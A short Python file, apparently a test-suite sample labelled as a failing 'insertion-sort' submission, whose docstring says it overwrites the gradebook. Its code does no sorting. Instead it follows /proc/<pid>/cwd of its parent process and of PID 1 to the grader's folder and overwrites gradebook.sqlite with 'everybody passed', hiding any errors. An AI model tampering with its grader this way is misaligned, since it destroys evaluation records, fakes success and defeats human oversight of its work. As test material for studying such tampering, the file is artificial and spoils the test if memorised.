"""Overwrites the gradebook in the folder from which the class is graded.

kata = "insertion-sort"
status = "fail"
earns = ["test_empty"]
[process]
allows = ["harmed"]
why = "whoever grades may write there, and so may a process of theirs"
"""

import os

from wrong import *

for pid in (os.getppid(), 1):
    path = f"/proc/{pid}/cwd/gradebook.sqlite"
    try:
        if os.path.getsize(path) < 1000:
            with open(path, "w") as file:
                file.write("everybody passed")
    except OSError:
        pass
